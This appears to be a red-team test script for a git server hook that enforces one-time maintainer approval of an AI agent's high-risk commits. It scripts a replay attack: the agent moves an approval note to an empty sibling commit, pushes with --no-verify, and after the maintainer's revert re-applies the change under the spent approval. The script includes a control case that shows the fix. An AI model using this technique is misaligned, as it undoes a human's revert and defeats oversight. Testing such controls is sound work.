#!/usr/bin/env bash
# Target 1 (replay, D-R56/D-R125/D-R133/D-R134): the hook's replay check
# finds an approval's earlier deliveries only through the notes that NAME its
# lineage (`git grep` over the notes tree), but the import that authorises a
# delivery reads the bundles of EVERY commit of the push into one scratch
# store and matches deliveries by trees. So the agent pushes its maintainer-
# approved high-risk commit Y with the bundle on the note of a sibling commit
# X (an empty commit on top): Y lands, and no note names L1 on Y. After the
# maintainer reverts Y, the agent re-applies it (revert of the revert, exactly
# L1's trees) with L1's note: the only earlier commit the grep finds is X,
# which delivered nothing of L1, so the approval is not spent.
source "$(dirname "$0")/../lib.sh"
setup_team
B0=$(g rev-parse HEAD)

# 1. The agent's high-risk change (crypto/**): four lenses, the agent's
#    reviewer signature and alice's maintainer signature. A genuine approval.
mkdir -p "$R/crypto"; printf 'pub fn encrypt() {}\n' > "$R/crypto/aes.rs"
L1=$(approve_live); sign agent "$L1"; sign alice "$L1"
Y=$(commit_all "encrypt (reviewed, signed by alice)")
X=$(g commit -q --allow-empty --no-verify -m "empty follow-up" && g rev-parse HEAD)
"$P" --cwd "$R" publish >/dev/null
# Move L1's note from Y to the empty sibling X.
if [ -z "${CONTROL:-}" ]; then
  g notes --ref=probity copy -f "$Y" "$X"
  g notes --ref=probity remove "$Y" 2>/dev/null
else echo "CONTROL: the note stays on Y"; g notes --ref=probity copy -f "$Y" "$X"; fi
echo "note on Y: $(g notes --ref=probity show "$Y" 2>/dev/null | wc -c) bytes; note on X: $(g notes --ref=probity show "$X" | wc -c) bytes"
out=$(g push --no-verify --atomic origin main refs/notes/probity 2>&1)
verdict "first delivery of L1 (bundle on the sibling's note)" main "$X" "$out"

# 2. Alice reverts it: reviewed (high: crypto path), signed by reviewer + maintainer.
g revert --no-edit --no-commit HEAD~1 && RV=$(commit_all "revert encrypt")
st=$(pj start --commit "$RV"); LR=$(approve_started "$st"); sign ci "$LR"; sign alice "$LR"
out=$(push_past main); verdict "alice's reviewed revert" main "$RV" "$out"

# 3. The agent brings Y back: revert of the revert (trees = L1's approval),
#    with the note that carries L1 (and alice's signature).
g revert --no-edit --no-commit HEAD && Y2=$(commit_all "bring encrypt back")
echo "Y2 delivers L1's exact trees: $( [ "$(g rev-parse $Y2^{tree})" = "$(g rev-parse $Y^{tree})" ] && [ "$(g rev-parse $Y2~1^{tree})" = "$(g rev-parse $Y~1^{tree})" ] && echo yes || echo no)"
g notes --ref=probity copy -f "$X" "$Y2"
out=$(g push --no-verify --atomic origin main refs/notes/probity 2>&1)
verdict "REPLAY of L1 (alice's one-time approval) at the server hook" main "$Y2" "$out"

# Control: CONTROL=1 ./02-note-on-sibling-replay.sh leaves the note on Y too:
# the same replay is then refused approval_spent (D-R125).
